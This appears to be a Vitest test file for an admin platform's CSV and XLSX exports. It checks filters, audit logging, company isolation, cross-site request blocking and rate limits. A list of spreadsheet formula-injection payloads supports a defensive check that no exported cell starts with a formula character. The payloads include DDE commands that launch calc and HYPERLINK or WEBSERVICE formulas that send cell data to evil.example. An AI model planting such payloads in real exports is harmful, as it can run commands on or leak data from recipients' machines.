/** Exports: all rows under the filters of the screens, as text that no spreadsheet executes. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROPOSALS_OPEN_MAX } from '@/lib/approvals/rules.ts';
import { EXPORT_KINDS, EXPORTS } from '@/lib/exports/calls.ts';
import { type Account, companyIdOf, makeAdmin, makeCompany, makeMember } from '../support/accounts.ts';
import { NEW_ACCOUNT, proposeChanges } from '../support/approvals.ts';
import { SYMBOL } from '../support/brand.ts';
import { fetchExport, type Row, takeExport } from '../support/exports.ts';
import { APPROVE, freshReference, manual, post, REJECT, REVERSE, submitted, upi } from '../support/purchases.ts';
import { freshIp, type Site, startSite } from '../support/site.ts';

let site: Site;
let companyId: string;
let admin: Account;
let referrer: Account;
let buyer: Account;
const FORMATS = ['csv', 'xlsx'] as const;
/** By state, with the search term. */
const made: Record<string, { id: string; orderNumber: string; referenceNumber: string | null }> = {};

beforeAll(async () => {
  site = await startSite();
  companyId = await companyIdOf(site);
  admin = await makeAdmin(site, { name: 'Vikram Shah' });
  referrer = await makeMember(site, { name: 'Meera Iyer', isApproved: true });
  buyer = await makeMember(site, { name: 'Zoë "Zed" Ünal, Jr.', mobile: '+919876543211', referrerId: referrer.id });
  for (const state of ['PENDING', 'APPROVED', 'REJECTED', 'REVERSED'] as const) {
    const it = await submitted(site, buyer, await upi(site, buyer, { amount: '1180.50' }));
    made[state] = it;
    if (state === 'REJECTED') await post(site, REJECT, admin, { id: it.id, reason: 'No such payment' });
    if (state === 'APPROVED' || state === 'REVERSED') await post(site, APPROVE, admin, { id: it.id });
    if (state === 'REVERSED') await post(site, REVERSE, admin, { id: it.id, reason: 'Charged back' });
  }
  await submitted(site, referrer, manual());
});
afterAll(() => site?.remove());

const take = (kind: string, query: Record<string, string> & { format: 'csv' | 'xlsx' }, who = admin) =>
  takeExport(site, who, kind, query);
const screen = async (query: string) =>
  (await site.call('GET', `/api/v1/admin/transaction/list?limit=100&${query}`, { token: admin.token, ip: freshIp() }))
    .body.data.records as { orderNumber: string }[];
const orders = (rows: readonly Row[]): string[] => rows.map((row) => row['Order #'] ?? '').sort();

describe.each(FORMATS)('purchases as %s', (format) => {
  it('contain every status, amounts to the paisa, both times, and numbers as text', async () => {
    const { rows, fileName } = await take('purchases', { format });
    expect(fileName).toMatch(new RegExp(`^${SYMBOL}-purchases-\\d{4}-\\d{2}-\\d{2}\\.${format}$`));
    expect(new Set(rows.map((row) => row.Status))).toEqual(new Set(['PENDING', 'APPROVED', 'REJECTED', 'REVERSED']));
    const row = rows.find((it) => it['Order #'] === made.REVERSED?.orderNumber);
    expect(row).toMatchObject({
      'Member ID': buyer.memberId,
      Name: 'Zoë "Zed" Ünal, Jr.',
      Mobile: '+919876543211',
      Method: 'UPI',
      Price: '0.25',
      Quantity: '4000',
      'Platform Fees %': '18',
      'UTR or Transaction Number': made.REVERSED?.referenceNumber,
      'Decided by': 'Vikram Shah',
      'Reversed by': 'Vikram Shah',
      'Reversal reason': 'Charged back',
      'Reject reason': '',
      'Submitted (UTC)': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      'Submitted (India)': expect.stringMatching(/^\d\d\/\d\d\/\d{4}, \d\d:\d\d:\d\d [ap]m$/),
      'Receipt number': expect.stringMatching(new RegExp(`^${SYMBOL}/\\d\\d-\\d\\d/\\d{5}$`)),
      'Transaction Hash': expect.stringMatching(/^0x[0-9a-f]{64}$/),
    });
    const amounts = ['Order amount', 'Platform Fees', 'Final amount', 'Claimed amount'].map((head) =>
      Number(row?.[head]),
    );
    expect(amounts).toEqual([1000, 180, 1180, 1180.5]);
    const rejected = rows.find((it) => it['Order #'] === made.REJECTED?.orderNumber);
    expect(rejected).toMatchObject({ 'Reject reason': 'No such payment', 'Receipt number': '', 'Reversed (UTC)': '' });
  });

  it.each([
    'status=PENDING',
    'status=APPROVED',
    'status=REJECTED',
    'status=REVERSED',
    'status=ALL',
    'search=ÜNAL',
    'search=meera&status=PENDING',
    'search=nobody',
    'waiting=second',
  ])('match the screen: %s', async (query) => {
    const { rows } = await take('purchases', { format, ...Object.fromEntries(new URLSearchParams(query)) });
    expect(orders(rows)).toEqual((await screen(query)).map((it) => it.orderNumber).sort());
  });

  it('find a reference in the form that a bank statement prints', async () => {
    const reference = made.APPROVED?.referenceNumber ?? '';
    const { rows } = await take('purchases', { format, search: reference.replace(/(.{4})/g, '$1 ') });
    expect(orders(rows)).toEqual([made.APPROVED?.orderNumber]);
  });
});

describe.each(FORMATS)('other lists as %s', (format) => {
  it('members, under the filters of their screen', async () => {
    const { rows } = await take('members', { format });
    const mine = rows.find((row) => row['Member ID'] === buyer.memberId);
    expect(mine).toMatchObject({
      Name: 'Zoë "Zed" Ünal, Jr.',
      Email: buyer.email,
      Role: 'USER',
      Status: 'ACTIVE',
      Verified: 'No',
      'Referred by': referrer.memberId,
      'Stock balance': '4000',
    });
    const memberIds = async (query: Record<string, string>) =>
      (await take('members', { format, ...query })).rows.map((row) => row['Member ID']);
    expect(await memberIds({ isApproved: 'false' })).toEqual([buyer.memberId]);
    expect(await memberIds({ isApproved: 'true' })).not.toContain(buyer.memberId);
    expect(await memberIds({ deletionRequested: 'true' })).toEqual([]);
    const leaves = site.database.platform.updateTable('users').where('id', '=', buyer.id);
    await leaves.set({ deletion_requested_at: new Date() }).execute();
    expect(await memberIds({ deletionRequested: 'true' })).toEqual([buyer.memberId]);
    await leaves.set({ deletion_requested_at: null }).execute();
    expect(await memberIds({ search: 'meera' })).toEqual([referrer.memberId]);
    expect(await memberIds({ search: '%' })).toEqual([]);
  });

  it('the ledger, in order, with its hashes, without a sign before any figure', async () => {
    const { rows } = await take('ledger', { format });
    expect(rows.map((row) => [row.Kind, row['Member ID'], row.Credited, row['Taken back']])).toEqual([
      ['PURCHASE', buyer.memberId, '4000', '0'],
      ['REWARD', referrer.memberId, '200', '0'],
      ['PURCHASE', buyer.memberId, '4000', '0'],
      ['REWARD', referrer.memberId, '200', '0'],
      ['ADJUSTMENT', buyer.memberId, '0', '4000'],
      ['ADJUSTMENT', referrer.memberId, '0', '200'],
    ]);
    const hashes = rows.map((row) => row['Transaction Hash']);
    expect(hashes.every((hash) => /^0x[0-9a-f]{64}$/.test(String(hash)))).toBe(true);
    expect(new Set(hashes).size).toBe(rows.length);
    expect(rows[1]).toMatchObject({ 'Order #': made.APPROVED?.orderNumber, 'Member ID of the buyer': buyer.memberId });
    const one = await take('ledger', { format, memberId: referrer.memberId.toLowerCase() });
    expect(one.rows).toHaveLength(3);
  });

  it('approvals that wait for a second admin, with old and new values, until they are decided', async () => {
    const own = await startSite();
    try {
      const [maker, second] = [await makeAdmin(own, { name: 'Vikram Shah' }), await makeAdmin(own)];
      const read = async () => (await takeExport(own, second, 'changes', { format })).rows;
      expect(await read()).toEqual([]);
      await proposeChanges(own, maker);
      const rows = await read();
      expect(rows).toMatchObject([
        {
          'Change of': 'Beneficiary',
          What: 'Changed',
          Account: 'Example Bank, account ending 0000',
          Before: `UPI ID: ${SYMBOL.toLowerCase()}@example`,
          After: 'UPI ID: changed@sbi',
        },
        {
          'Change of': 'Beneficiary',
          What: 'Added',
          Account: 'Bank of Baroda, account ending 4321',
          Before: '',
          After:
            'Account holder: Cow Launch Private Limited; Bank name: Bank of Baroda; Branch: Fort, Mumbai; ' +
            'Account number: 0660000004321; IFSC code: BARB0FORTXX; UPI ID: second@barb; Primary account: No',
        },
        {
          'Change of': 'Settings',
          What: 'Changed',
          Account: '',
          Before: 'Two admins for account changes: on',
          After: 'Two admins for account changes: off',
        },
      ]);
      for (const row of rows)
        expect(row).toMatchObject({
          'Proposed by': 'Vikram Shah',
          'Can be confirmed': 'Yes',
          'Proposed (UTC)': expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
          'To be confirmed until (India)': expect.stringMatching(/ [ap]m$/),
        });
      const path = '/api/v1/admin/settings';
      const get = async () =>
        (await own.call('GET', `${path}/get`, { token: second.token, ip: freshIp() })).body.data.proposals;
      await post(own, `${path}/refuse`, second, { id: (await get())[0].id });
      expect((await read()).map((row) => row['Change of'])).toEqual(['Beneficiary', 'Beneficiary']);
    } finally {
      await own.remove();
    }
  });

  it('the supply, whose parts add up to the total', async () => {
    const { rows } = await take('supply', { format });
    const tokens = Object.fromEntries(rows.map((row) => [row.Supply, BigInt(row.Tokens ?? 0)]));
    const sum = (...parts: string[]): bigint => parts.reduce((all, part) => all + (tokens[part] ?? -1n), 0n);
    expect(
      sum('Private Supply', 'Public Cell Supply', 'Angel Investor Supply', 'Founder Team Supply', 'Airdrop Supply'),
    ).toBe(tokens['Total Supply']);
    expect(sum('Credited to members', 'Held by pending purchases', 'Remaining Private Supply')).toBe(
      tokens['Private Supply'],
    );
  });
});

/** Prefixes that some spreadsheet program has executed or fetched. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C notepad'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '%0A=1+1',
  '|cmd',
  '"=1+1"',
  "';=1+1",
] as const;
const FORMULA_CHARACTER = /^\s*[=+\-@\t\r＝＋－＠|%]/;

describe.each(FORMATS)('formulas as %s', (format) => {
  it(`${PAYLOADS.length} payloads in every field: no cell begins with a formula character, and all values are preserved`, async () => {
    const own = await startSite();
    try {
      const boss = await makeAdmin(own, { name: '=1+1' });
      for (const [nth, name] of PAYLOADS.entries()) {
        const member = await makeMember(own, { name, email: `p${nth}@example.com` });
        const reference = nth % 2 ? freshReference() : `0${freshReference()}`;
        const it = await submitted(own, member, await upi(own, member, { referenceNumber: reference }));
        await post(own, nth % 2 ? APPROVE : REJECT, boss, { id: it.id, ...(nth % 2 === 0 && { reason: name }) });
        await own.database.platform
          .updateTable('purchases')
          .set({ transaction_id: name, ...(nth % 2 === 0 && { reject_reason: name }) })
          .where('id', '=', it.id)
          .execute();
      }
      const accounts = PAYLOADS.slice(0, PROPOSALS_OPEN_MAX).map((bankName) => ({
        company_id: boss.companyId,
        kind: 'beneficiary.add' as const,
        change: JSON.stringify({ details: { ...NEW_ACCOUNT, bankName, holderName: bankName } }),
        proposed_by: boss.id,
        expires_at: new Date(Date.now() + 3_600_000),
      }));
      await own.database.platform.insertInto('approvals').values(accounts).execute();
      for (const kind of EXPORT_KINDS) {
        const { cells, rows } = await takeExport(own, boss, kind, { format });
        expect(cells.filter((cell) => FORMULA_CHARACTER.test(cell))).toEqual([]);
        if (kind === 'members' || kind === 'purchases')
          for (const name of PAYLOADS) expect(rows.map((row) => row.Name)).toContain(name);
        if (kind === 'changes') expect(rows).toHaveLength(PROPOSALS_OPEN_MAX);
        if (kind === 'purchases')
          for (const name of PAYLOADS) expect(rows.map((row) => row['Transaction ID'])).toContain(name);
      }
    } finally {
      await own.remove();
    }
  });
});

describe('access and audit', () => {
  it('an export is recorded in the trail before it is sent, without its search term', async () => {
    await take('purchases', { format: 'csv', search: 'Zoë', status: 'APPROVED' });
    const last = await site.database.platform
      .selectFrom('audit_entries')
      .selectAll()
      .where('scope_id', '=', companyId)
      .orderBy('seq', 'desc')
      .limit(1)
      .executeTakeFirst();
    expect(last).toMatchObject({
      action: 'export.purchases',
      actor_id: admin.id,
      subject_kind: 'company',
      after: { format: 'csv', status: 'APPROVED', isSearch: true },
    });
  });

  it.each(EXPORT_KINDS)('%s: only admins of this company', async (kind) => {
    const path = `${EXPORTS[kind].path}?format=csv`;
    const foreign = await makeAdmin(site, { companyId: await makeCompany(site) });
    const call = (options: Parameters<Site['call']>[2]) => site.call('GET', path, { ip: freshIp(), ...options });
    expect((await call({})).status).toBe(401);
    expect((await call({ token: buyer.token })).status).toBe(403);
    expect((await call({ token: foreign.token })).status).toBe(401);
    expect((await call({ cookie: admin.cookie })).status).toBe(200);
    // A foreign page must not make an admin's browser fetch the company's books.
    for (const site of ['cross-site', 'same-site'])
      expect((await call({ cookie: admin.cookie, headers: { 'Sec-Fetch-Site': site } })).status).toBe(403);
  });

  it('contains nothing of another company', async () => {
    const strange = await makeCompany(site);
    const stranger = await makeMember(site, { companyId: strange, name: 'Stranger Danger' });
    const { cells } = await take('members', { format: 'csv' });
    expect(cells).not.toContain(stranger.memberId);
  });

  it.each([
    ['', 'The format must be csv or xlsx.'],
    ['format=pdf', 'The format must be csv or xlsx.'],
    ['format=csv&status=DONE', 'The status must be PENDING, APPROVED, REJECTED, REVERSED or ALL.'],
  ])('%j', async (query, message) => {
    const answer = await fetchExport(site, admin, 'purchases', query);
    expect([answer.status, ((await answer.json()) as { message: string }).message]).toEqual([422, message]);
  });

  it.each(FORMATS)('an invalid member ID is refused before the first byte of the file: %s', async (format) => {
    const answer = await fetchExport(site, admin, 'ledger', `format=${format}&memberId=%00`);
    expect([answer.status, ((await answer.json()) as { code: string }).code]).toEqual([422, 'invalid']);
    expect((await take('ledger', { format, memberId: 'COW\u0000L' })).rows).toEqual([]);
  });

  it('the number of exports an hour is limited', async () => {
    const busy = await makeAdmin(site);
    const statuses: number[] = [];
    for (let nth = 0; nth < 61; nth++) {
      const answer = await fetchExport(site, busy, 'supply', 'format=csv');
      await answer.arrayBuffer();
      statuses.push(answer.status);
    }
    expect(statuses.filter((status) => status === 200)).toHaveLength(60);
    expect(statuses.at(-1)).toBe(429);
  });
});
